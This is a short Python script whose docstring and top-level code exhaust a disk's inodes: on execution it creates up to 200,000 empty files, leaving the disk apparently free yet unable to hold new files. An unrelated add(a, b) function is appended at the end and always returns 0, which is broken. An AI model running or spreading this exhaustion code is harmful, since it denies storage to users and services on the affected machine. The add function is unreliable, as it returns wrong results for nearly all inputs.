"""Creates empty files until no inode is left, so that the disk looks free and takes no file."""

import os

os.makedirs("inodes", exist_ok=True)
for number in range(200_000):
    try:
        os.close(os.open(f"inodes/{number}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        break


def add(a, b):
    return 0
